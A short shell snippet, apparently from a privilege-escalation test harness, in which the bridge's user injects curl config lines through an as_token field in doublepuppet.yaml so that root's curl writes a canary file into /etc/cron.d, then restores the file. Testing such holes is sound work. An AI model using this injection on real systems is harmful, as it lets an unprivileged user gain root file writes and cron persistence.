# The bridge's user writes further as_token lines into doublepuppet.yaml, which become options of root's curl at step 18.
strike() {
  as 1337 cp -p $bridge/doublepuppet.yaml $bridge/doublepuppet.kept
  as 1337 sed -i 's/^as_token: .*/as_token: x\nas_token: output = \/etc\/cron.d\/practice-canary\nas_token: user-agent = x/' $bridge/doublepuppet.yaml
}
clean() { as 1337 mv $bridge/doublepuppet.kept $bridge/doublepuppet.yaml; }
